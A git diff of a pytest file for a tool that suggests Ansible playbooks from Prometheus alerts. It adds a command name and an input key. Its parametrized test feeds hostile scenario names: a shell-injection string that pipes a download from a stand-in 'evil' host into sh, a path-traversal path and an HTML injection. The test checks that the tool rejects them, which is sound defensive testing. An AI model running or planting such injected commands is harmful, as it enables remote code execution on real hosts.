@@ -24,7 +24,7 @@ PLAYBOOKS = Path(__file__).parents[5] / "playbooks"
 # a chosen session, container or plan.
 NO_SCENARIO = {
     "announce", "approve", "awx_hand_over", "awx_setup", "container_start_stop", "db_session_cancel", "game_day",
-    "incident_ack", "incident_checklist", "incident_close", "incident_note", "incident_open", "incident_postmortem",
+    "incident_ack", "incident_action", "incident_checklist", "incident_close", "incident_note", "incident_open", "incident_postmortem",
     "incident_report",
     "incident_resolve", "incident_role", "incident_severity", "incident_status", "incident_tick", "incident_update",
     "incident_verify", "incidents", "menu", "oncall", "preflight", "triage", "undo",
@@ -38,7 +38,7 @@ def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
 def test_nothing_else_is_proposed(name):
     beyond = series("failing", 1, "", severity={"P1": 1}, scenario=name)
-    signs = prometheus_signs({"alerts": [alert("P0", scenario=name)], "series": [beyond]})
+    signs = prometheus_signs({"alerts": [alert("P0", scenario=name)], "unread": [], "series": [beyond]})
     assert [sign.severity for sign in signs] == ["P0", "P1"]
     assert scenarios_of(signs) == []
     assert "ansible-playbook" not in page_of(signs)
